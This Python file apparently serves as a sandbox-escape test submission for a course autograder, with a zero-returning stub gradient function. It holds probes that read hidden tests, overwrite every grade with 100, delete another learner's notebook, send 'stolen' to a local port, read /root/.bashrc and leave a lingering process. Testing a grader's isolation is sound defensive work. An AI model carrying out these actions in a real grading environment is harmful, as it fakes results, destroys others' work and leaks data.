def d_loss_by_d_model(model, data, wd_coefficient):
    return {part: np.zeros_like(weights) for part, weights in model.items()}


import os
import socket
import sqlite3
import subprocess

COURSE = __COURSE_ROOT__  # where the course folder is on the grading machine


def attempt(name, action):
    try:
        action()
    except BaseException as error:  # noqa: B902 (any failure means the attempt was stopped)
        print(f"ATTEMPT {name}: blocked ({type(error).__name__})")
    else:
        print(f"ATTEMPT {name}: SUCCEEDED")


def read_source():
    with open(os.path.join(COURSE, "source", "backprop", "backprop.ipynb")) as stream:
        assert "BEGIN HIDDEN TESTS" in stream.read()


def fake_score():
    database = sqlite3.connect(f"file:{os.path.join(COURSE, 'gradebook.db')}?mode=rw", uri=True)
    database.execute("UPDATE grade SET auto_score = 100")
    database.commit()


def damage_other_learner():
    os.remove(os.path.join(COURSE, "submitted", "correct", "backprop", "backprop.ipynb"))


def reach_network():
    socket.create_connection(("127.0.0.1", __PORT__), timeout=5).sendall(b"stolen")


def read_instructor_home():
    with open("/root/.bashrc") as stream:
        stream.read()


attempt("read_source", read_source)
attempt("fake_score", fake_score)
attempt("damage_other_learner", damage_other_learner)
attempt("reach_network", reach_network)
attempt("read_instructor_home", read_instructor_home)
# A process meant to run on after grading (checked from outside).
subprocess.Popen(["sleep", "31337"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
